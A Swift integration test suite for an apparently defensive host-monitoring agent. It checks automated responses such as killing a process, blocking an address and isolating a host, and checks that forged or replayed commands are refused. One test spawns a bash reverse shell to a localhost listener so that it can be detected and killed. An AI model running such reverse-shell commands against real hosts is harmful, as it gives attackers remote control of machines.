import Foundation
import HerdwatchCommands
import HerdwatchTestSupport
import Testing

@testable import HerdwatchCollectors

#if canImport(Glibc)
import Glibc
#endif

/// Automated response end to end on this host's kernel: the agent (pet rules) ships to
/// `herdwatch server` with response policies; alerts turn into signed commands that the agent
/// carries out — a raised level that expires, a reverse shell killed by entity id, an address
/// blocked until its block expires — a dry-run policy that only records, and an operator's
/// isolation and release. A second test feeds
/// the agent forged, expired, replayed, misaddressed and unaccepted commands and checks that each
/// is refused, reported, and changes nothing.
@Suite(.serialized) struct ResponseLiveTests {
    static let available = AgentTests.available && FileManager.default.isExecutableFile(atPath: ShippingLiveTests.herdwatch)
        && FileManager.default.isExecutableFile(atPath: "/usr/sbin/nft")

    static func now() -> Int64 { Int64(Date().timeIntervalSince1970 * 1000) }

    /// `herdwatch query --format json` rows. (Run with posix_spawn and waitpid: Foundation's Process
    /// missed a child's exit once here, when another child of the test ended at the same moment.)
    static func rows(_ database: String, _ sql: String) -> [[String: Any]] {
        guard let result = try? ChildProcess.run([ShippingLiveTests.herdwatch, "query", "--db", database, "--format", "json", sql]) else {
            return []
        }
        return String(decoding: result.output, as: UTF8.self).split(separator: "\n").compactMap {
            try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]
        }
    }

    /// A TCP listener on 127.0.0.1 (never accepting: the kernel completes connections into its backlog).
    static func listener() -> (descriptor: Int32, port: Int) {
        let descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        _ = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(descriptor, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) }
        }
        listen(descriptor, 64)
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(descriptor, $0, &length) }
        }
        return (descriptor, Int(UInt16(bigEndian: address.sin_port)))
    }

    /// Whether a TCP connection to 127.0.0.1:port completes within 300 ms.
    static func connects(_ port: Int) -> Bool {
        let descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_NONBLOCK.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
        defer { close(descriptor) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        address.sin_port = in_port_t(UInt16(port).bigEndian)
        let result = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(descriptor, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) }
        }
        if result == 0 { return true }
        guard errno == EINPROGRESS else { return false }
        var poller = pollfd(fd: descriptor, events: Int16(POLLOUT), revents: 0)
        guard poll(&poller, 1, 300) == 1 else { return false }
        var error: Int32 = 0
        var length = socklen_t(MemoryLayout<Int32>.size)
        getsockopt(descriptor, SOL_SOCKET, SO_ERROR, &error, &length)
        return error == 0
    }

    /// Waits up to `seconds` for a child to end; its wait status, or nil if it still runs.
    static func ended(_ pid: pid_t, within seconds: Double) -> Int32? {
        let deadline = Date().addingTimeInterval(seconds)
        var status: Int32 = 0
        repeat {
            if waitpid(pid, &status, WNOHANG) == pid { return status }
            usleep(10_000)
        } while Date() < deadline
        return nil
    }

    static func wasKilled(_ status: Int32) -> Bool { (status & 0x7f) == SIGKILL }

    static func deleteFirewallTables() {
        for table in ["herdwatch", "herdwatch_isolate"] {
            _ = try? runProgram("/usr/sbin/nft", ["delete", "table", "inet", table])
        }
    }

    @Test(.enabled(if: available, "needs root, the kernel's audit subsystem, nftables and the built binaries"))
    func policiesRaiseTheLevelKillAReverseShellBlockAnAddressAndDryRunOnlyRecords() throws {
        try withKernelAudit {
            let folder = URL(fileURLWithPath: "/tmp/herdwatch-respond-\(UUID().uuidString)")
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            defer {
                Self.deleteFirewallTables()
                try? FileManager.default.removeItem(at: folder)
            }
            let shell = Self.listener()
            let canary = Self.listener()
            defer {
                close(shell.descriptor)
                close(canary.descriptor)
            }
            let token = "web1-\(UUID().uuidString)"
            try "web1.example \(token) role=web\n".write(to: folder.appendingPathComponent("tokens"), atomically: true, encoding: .utf8)
            try token.write(to: folder.appendingPathComponent("token"), atomically: true, encoding: .utf8)
            let rules = folder.appendingPathComponent("rules")
            try FileManager.default.createDirectory(at: rules, withIntermediateDirectories: true)
            try """
                title: Test Canary Connection
                id: 5d1c2b7a-3e4f-4a6b-8c9d-0e1f2a3b4c5d
                logsource:
                    product: linux
                    category: network_connection
                detection:
                    selection:
                        DestinationPort: \(canary.port)
                    condition: selection
                level: high
                """.write(to: rules.appendingPathComponent("canary.yml"), atomically: true, encoding: .utf8)
            try """
                policies:
                  - name: raise-on-setuid
                    match: {rules: [58e9946e-5146-47c6-b8a5-8325cb372943], hosts: role=web}
                    actions:
                      - raise: {level: pet, for: 3s}
                  - name: kill-reverse-shells
                    match: {rules: ["Shell Redirected To A /dev/tcp*"], level: high}
                    actions:
                      - kill: {}
                  - name: block-canary
                    match: {rules: ["Test Canary*"]}
                    actions:
                      - block: {for: 4s}
                  - name: dry-run-tmp
                    match: {rules: [7046e7ff-b2fb-481d-9914-925a2a1b4d27]}
                    dry_run: true
                    actions:
                      - kill: {}
                """.write(to: folder.appendingPathComponent("responses.yaml"), atomically: true, encoding: .utf8)
            // The base level keeps everything with the pet rules, under another name, so that
            // raising to pet is a change the test can see.
            try """
                profile: watch
                policy:
                  profiles:
                    watch:
                      rules: pet
                      process_events: none
                """.write(to: folder.appendingPathComponent("agent.yaml"), atomically: true, encoding: .utf8)
            let database = folder.appendingPathComponent("fleet.db").path
            let key = folder.appendingPathComponent("server.key").path
            let port = NATSServer.freePort()
            let server = try spawnServer(
                [ShippingLiveTests.herdwatch, "server", "--listen", "127.0.0.1:\(port)", "--tokens", folder.appendingPathComponent("tokens").path,
                 "--db", database, "--rules", "builtin", "--rules", rules.path, "--responses", folder.appendingPathComponent("responses.yaml").path,
                 "--signing-key", key],
                log: folder.appendingPathComponent("server.log").path)
            defer { stopServer(server) }
            waitUntil(seconds: 10) { NATSServer.accepts(port) }
            #expect(FileManager.default.fileExists(atPath: key + ".pub"))

            let netlink = try AuditNetlink(mode: .unicast)
            let agent = try spawnWithDefaultSignals(
                AgentTests.agent,
                ["run", "--config", folder.appendingPathComponent("agent.yaml").path, "--mode", "unicast",
                 "--output", folder.appendingPathComponent("events.jsonl").path, "--state-dir", folder.path, "--host-name", "web1.example",
                 "--auth-log", "none", "--heartbeat-interval", "0", "--http", "http://127.0.0.1:\(port)",
                 "--http-token-file", folder.appendingPathComponent("token").path, "--command-key", "@\(key).pub",
                 "--accept-commands", "level,kill,block,isolate"],
                standardError: folder.appendingPathComponent("agent.log").path)
            defer { stopServer(agent) }
            waitUntil(seconds: 5) { (try? netlink.status().pid) == UInt32(agent) }
            waitUntil(seconds: 5) { (try? netlink.listRules().contains { AuditRuleData.keys(of: $0).contains("exec") }) ?? false }
            usleep(500_000)

            func responses(_ policy: String) -> [[String: Any]] {
                Self.rows(database, "SELECT action, target, status, detail, dry_run, command_id FROM responses WHERE policy = '\(policy)'")
            }
            func levelChanges() -> [[String: Any]] {
                Self.rows(
                    database,
                    """
                    SELECT time, json_extract(json, '$.herdwatch.level.current') AS current, json_extract(json, '$.herdwatch.level.reason') AS reason,
                    json_extract(json, '$.herdwatch.level.requested_by') AS requested_by
                    FROM events WHERE action = 'monitoring-level-changed' ORDER BY time
                    """)
            }

            // 1. chmod u+s → the level rises to pet within a second, and falls back when it expires.
            try "".write(to: folder.appendingPathComponent("tool"), atomically: true, encoding: .utf8)
            let raisedAt = Self.now()
            try runProgram("/bin/chmod", ["u+s", folder.appendingPathComponent("tool").path])
            waitUntil(seconds: 10) { levelChanges().contains { $0["current"] as? String == "pet" } }
            let raise = levelChanges().first { $0["current"] as? String == "pet" }
            #expect(raise?["requested_by"] as? String == "policy raise-on-setuid")
            if let time = raise?["time"] as? Int {
                print("response latency: level raised \(Int64(time) - raisedAt) ms after chmod u+s")
                #expect(Int64(time) - raisedAt < 1000, "level raised \(Int64(time) - raisedAt) ms after the action")
            } else {
                Issue.record("no level change to pet stored: \(levelChanges())")
            }
            waitUntil(seconds: 10) { levelChanges().contains { $0["current"] as? String == "watch" && $0["reason"] as? String == "expiry" } }
            #expect(levelChanges().contains { $0["current"] as? String == "watch" && $0["reason"] as? String == "expiry" }, "\(levelChanges())")
            waitUntil(seconds: 5) { responses("raise-on-setuid").first?["status"] as? String == "succeeded" }
            #expect(responses("raise-on-setuid").first?["status"] as? String == "succeeded", "\(responses("raise-on-setuid"))")

            // 2. A reverse shell is killed by its entity id.
            let reverse = try ChildProcess.spawn(["/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/\(shell.port) 0>&1"])
            let entity = ProcessTable().read(pid: reverse.pid, details: false)?.entityID
            let status = Self.ended(reverse.pid, within: 10)
            if status == nil { stopServer(reverse.pid, signal: SIGKILL) }
            #expect(status.map(Self.wasKilled) == true, "the reverse shell was not killed (status \(String(describing: status)))")
            waitUntil(seconds: 5) { responses("kill-reverse-shells").contains { $0["status"] as? String == "succeeded" } }
            let kill = responses("kill-reverse-shells").first
            #expect(kill?["status"] as? String == "succeeded", "\(responses("kill-reverse-shells"))")
            #expect(kill?["target"] as? String == entity)

            // 3. A connection to the canary port: that address is blocked, another port is not,
            // and the block expires by itself.
            #expect(Self.connects(canary.port))
            let python = FileManager.default.isExecutableFile(atPath: "/usr/bin/python3") ? "/usr/bin/python3" : "python3"
            try runProgram(python, ["-c", "import socket; socket.create_connection(('127.0.0.1', \(canary.port)), 2).close()"])
            waitUntil(seconds: 10) { !Self.connects(canary.port) }
            #expect(!Self.connects(canary.port), "127.0.0.1:\(canary.port) still reachable")
            #expect(Self.connects(shell.port), "blocking one port must leave the others alone")
            let block = responses("block-canary").first
            #expect(block?["target"] as? String == "127.0.0.1:\(canary.port)")
            waitUntil(seconds: 10) { Self.connects(canary.port) }
            #expect(Self.connects(canary.port), "the block did not expire")
            #expect(responses("block-canary").first?["status"] as? String == "succeeded", "\(responses("block-canary"))")

            // 4. Dry run: recorded, nothing done.
            try FileManager.default.copyItem(atPath: "/bin/sleep", toPath: folder.appendingPathComponent("hw-sleep").path)
            let sleeper = try ChildProcess.spawn([folder.appendingPathComponent("hw-sleep").path, "30"])
            defer { stopServer(sleeper.pid, signal: SIGKILL) }
            waitUntil(seconds: 10) { !responses("dry-run-tmp").isEmpty }
            let dry = responses("dry-run-tmp").first
            #expect(dry?["status"] as? String == "dry-run", "\(responses("dry-run-tmp"))")
            #expect(dry?["dry_run"] as? Int == 1)
            #expect(dry?["command_id"] == nil || dry?["command_id"] is NSNull)
            usleep(500_000)
            #expect(Self.ended(sleeper.pid, within: 0) == nil, "a dry-run policy killed the process")

            // 5. An operator isolates the host by hand (the API the UI's buttons use), then releases
            // it: meanwhile only the herdwatch server is reachable.
            func command(_ json: String) -> String {
                let result = try? ChildProcess.run([
                    "/usr/bin/curl", "-s", "--max-time", "5", "-o", "/dev/null", "-w", "%{http_code}", "-H", "Content-Type: application/json",
                    "--data", json, "http://127.0.0.1:\(port)/api/v1/hosts/web1.example/commands",
                ])
                return result.map { String(decoding: $0.output, as: UTF8.self) } ?? ""
            }
            #expect(Self.connects(shell.port))
            #expect(command(#"{"action": "isolate", "seconds": 60}"#) == "202")
            waitUntil(seconds: 5) { !Self.connects(shell.port) }
            #expect(!Self.connects(shell.port), "an isolated host still reaches 127.0.0.1:\(shell.port)")
            #expect(Self.connects(port), "an isolated host must still reach the herdwatch server")
            #expect(command(#"{"action": "release"}"#) == "202")
            waitUntil(seconds: 5) { Self.connects(shell.port) }
            #expect(Self.connects(shell.port), "the release did not lift the isolation")
            waitUntil(seconds: 5) { responses("manual").filter { $0["status"] as? String == "succeeded" }.count == 2 }
            let manual = responses("manual").map { "\($0["action"] ?? ""):\($0["status"] ?? "")" }.sorted()
            #expect(manual == ["isolate:succeeded", "release:succeeded"], "\(responses("manual"))")
        }
    }

    @Test(.enabled(if: available, "needs root, the kernel's audit subsystem, nftables and the built binaries"))
    func forgedExpiredReplayedMisaddressedAndUnacceptedCommandsAreRefusedAndReported() throws {
        try withKernelAudit {
            let folder = URL(fileURLWithPath: "/tmp/herdwatch-refuse-\(UUID().uuidString)")
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            defer { try? FileManager.default.removeItem(at: folder) }
            let stub = try StubHerdwatchServer()
            defer { stub.stop() }
            try "stub-token-0123456789".write(to: folder.appendingPathComponent("token"), atomically: true, encoding: .utf8)
            let signer = CommandSigner()
            let forger = CommandSigner()

            let netlink = try AuditNetlink(mode: .unicast)
            let agent = try spawnWithDefaultSignals(
                AgentTests.agent,
                ["run", "--mode", "unicast", "--profile", "pet", "--output", folder.appendingPathComponent("events.jsonl").path,
                 "--state-dir", folder.path, "--host-name", "web1.example", "--process-events", "none", "--auth-log", "none",
                 "--heartbeat-interval", "0", "--http", "http://127.0.0.1:\(stub.port)",
                 "--http-token-file", folder.appendingPathComponent("token").path, "--command-key", signer.publicKeyBase64,
                 "--accept-commands", "level,kill"],
                standardError: folder.appendingPathComponent("agent.log").path)
            defer { stopServer(agent) }
            waitUntil(seconds: 5) { (try? netlink.status().pid) == UInt32(agent) }

            let sleeper = try ChildProcess.spawn(["/bin/sleep", "30"])
            defer { stopServer(sleeper.pid, signal: SIGKILL) }
            let entity = try #require(ProcessTable().read(pid: sleeper.pid, details: false)?.entityID)
            func kill(host: String = "web1.example", issuedAt: Int64 = Self.now()) -> Command {
                Command(host: host, action: "kill", arguments: ["entity_id": entity], issuedAt: issuedAt, requestedBy: "test")
            }
            func queue(_ signed: SignedCommand) { stub.queue(payload: signed.payload, signature: signed.signature) }

            let valid = signer.sign(Command(host: "web1.example", action: "level", arguments: ["level": "pet", "seconds": "5"], issuedAt: Self.now(), requestedBy: "test"))
            queue(forger.sign(kill()))
            queue(signer.sign(kill(issuedAt: Self.now() - 120_000)))
            queue(signer.sign(kill(host: "db9.example")))
            queue(signer.sign(Command(host: "web1.example", action: "isolate", issuedAt: Self.now(), requestedBy: "test")))
            queue(valid)
            queue(valid)

            func reports() -> [[String: Any]] {
                stub.eventLines.withLock { $0 }.compactMap { line -> [String: Any]? in
                    guard line.contains("response-action"), let object = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
                    else { return nil }
                    return (object["herdwatch"] as? [String: Any])?["response"] as? [String: Any]
                }
            }
            waitUntil(seconds: 10) { reports().count >= 6 }
            let seen = reports()
            let refusals = seen.filter { $0["status"] as? String == "refused" }.compactMap { $0["refusal"] as? String }
            #expect(Set(refusals) == ["bad-signature", "expired", "wrong-host", "not-accepted", "replayed"], "\(seen)")
            #expect(refusals.count == 5, "\(seen)")
            #expect(seen.filter { $0["status"] as? String == "succeeded" }.count == 1, "\(seen)")
            // The forged, expired and misaddressed kills did nothing.
            #expect(Self.ended(sleeper.pid, within: 0) == nil, "a refused command killed the process")
        }
    }
}
